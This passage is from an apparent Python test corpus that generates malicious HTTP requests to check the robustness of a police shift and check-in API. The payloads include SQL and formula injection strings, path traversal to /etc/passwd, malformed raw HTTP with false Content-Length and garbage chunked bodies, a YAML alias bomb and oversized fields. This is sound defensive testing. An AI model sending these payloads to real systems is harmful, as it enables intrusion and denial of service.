    yield put("as-image", b"\x89PNG\r\n", "image/png")


def queries() -> Iterator[Hostile]:
    for path in ("/api/v1/flags?page=" + "9" * 30, "/api/v1/flags?per_page=-1", "/api/v1/flags?per_page=100000",
                 "/api/v1/flags?from=0001-01-01T00:00:00Z", "/api/v1/flags?to=9999-12-31T23:59:59Z",
                 "/api/v1/flags?officer=" + _q(SQL), "/api/v1/flags?district=" + _q(FORMULA),
                 "/api/v1/flags?status=" + _q(SQL), "/api/v1/flags?code=" + "X" * 10_000,
                 "/api/v1/flags?shift_id=" + "9" * 40, "/api/v1/checkins?date=0000-00-00",
                 "/api/v1/checkins?date=" + _q(SQL), "/api/v1/shifts?officer=%00", "/api/v1/officers?role=" + _q(SQL),
                 "/api/v1/grids?parent=" + _q(SQL), "/api/v1/stats/compliance?group_by=" + _q(SQL),
                 "/api/v1/stats/compliance?from=2026-11-27&to=2026-11-26", "/api/v1/flags/" + "9" * 30,
                 "/api/v1/flags/-1", "/api/v1/checkins/1/photo?variant=" + _q("../../etc/passwd"),
                 "/api/v1/shifts/{shift}/analysis?as_of=" + _q(FORMULA), "/api/v1/shifts/{shift}/track.svg?as_of=9999-12-31",
                 "/api/v1/shifts/{shift}/track.geojson?as_of=0001-01-01", "/api/v1/grids/" + _q("../../etc/passwd"),
                 "/api/v1/regulation/versions/" + "9" * 25, "/api/v1/districts/" + _q(SQL) + "/squads",
                 "/api/v1/assignments?date=" + _q(FORMULA), "/api/v1/flags?" + "&".join(f"x{i}=y" for i in range(2000)),
                 "/%2e%2e/%2e%2e/etc/passwd", "/api/v1/%E4%B8%AD%E6%96%87"):
        yield Hostile(f"query/{path[:60]}", "GET", path, "admin")


def headers_and_forms() -> Iterator[Hostile]:
    plain = make_jpeg(seed=70, size=(64, 48))
    body = multipart(None, [("photo", "a.jpg", plain)])
    for name, value in (("key-long", "k" * 1000), ("key-sql", SQL), ("key-blank", " "), ("key-emoji", "🔑" * 40)):
        yield Hostile(f"header/idempotency-{name}", "POST", "/api/v1/checkins", "dl1", body, MULTIPART,
                      (("Idempotency-Key", value),))
    yield Hostile("header/authorization-garbage", "GET", "/api/v1/flags", None, headers=(("Authorization", "Bearer " +
                                                                                          "x" * 5000),))
    yield Hostile("header/authorization-basic", "GET", "/api/v1/flags", None, headers=(("Authorization", "Basic Og=="),))
    yield Hostile("header/content-type-odd", "POST", "/api/v1/districts", "admin", b'{"code": "X"}',
                  "application/json; charset=ebcdic")
    yield Hostile("raw/content-length-lies", "POST", "/api/v1/districts", raw=True,
                  body=b"POST /api/v1/districts HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                       b"Content-Length: 1000\r\nConnection: close\r\n\r\n{}")
    yield Hostile("raw/chunked-garbage", "POST", "/api/v1/positions", raw=True,
                  body=b"POST /api/v1/positions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
                       b"Content-Type: application/json\r\nConnection: close\r\n\r\nzz\r\n[]\r\n0\r\n\r\n")
    yield Hostile("raw/header-nul", "GET", "/api/v1/flags", raw=True,
                  body=b"GET /api/v1/flags HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\nConnection: close\r\n\r\n")
    for name, fields in (("decision-reason-400k", {"decision": "confirm", "reason": "理" * 400_000}),
                         ("decision-odd", {"decision": SQL, "reason": "fine reason"}),
                         ("decision-no-csrf", {"decision": "confirm", "reason": "fine reason", "csrf_token": "x"})):
        form = "&".join(f"{k}={_q(v)}" for k, v in fields.items())
        token = "" if "csrf_token" in fields else "csrf_token={csrf}&"
        yield Hostile(f"web/{name}", "POST", "/flags/{flag}/decision", "mgr-dl", f"{token}{form}".encode(),
                      "application/x-www-form-urlencoded", web=True)
    for name, text in (("replay-laughs", "version_label: t\na: &a [x,x,x,x,x,x,x,x,x]\nb: [*a,*a,*a,*a,*a]"),
                       ("replay-long", "x" * 1_100_000), ("publish-negative", ("version_label: t\nrules: {LATE: {params: "
                                                                               "{grace_min: -5}}}"))):
        action = "publish" if name.startswith("publish") else "replay"
        yield Hostile(f"web/regulation-{name}", "POST", "/regulation", "admin",
                      f"csrf_token={{csrf}}&action={action}&text={_q(text)}".encode(),
                      "application/x-www-form-urlencoded", web=True)
    yield Hostile("web/login-long", "POST", "/login", None,
                  f"csrf_token={{csrf}}&username={_q(LONG)}&password=x".encode(), "application/x-www-form-urlencoded",
                  web=True)
    yield Hostile("web/checkin-truncated", "POST", "/checkin", "dl1",
                  multipart({"csrf_token": "{csrf}"}, [("photo", "a.jpg", plain[:200])]), MULTIPART, web=True)


def _q(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")


def build_corpus() -> list[Hostile]:
    """Every hostile request, in the order the test sends them; ids are unique."""
    corpus = [*photos(), *tracks(), *json_bodies(), *osmand(), *grids(), *regulation(), *queries(),
              *headers_and_forms()]
    ids = [h.id for h in corpus]
    assert len(ids) == len(set(ids)), [i for i in ids if ids.count(i) > 1]
    return corpus


def main(out: Path) -> None:
    """Write each request's body to OUT/<id> to look at (not kept in the repository)."""
    for hostile in build_corpus():
        path = out / hostile.id.replace("/", "__").replace("?", "_")[:150]
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(hostile.body)
    print(f"{len(build_corpus())} requests written to {out}")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
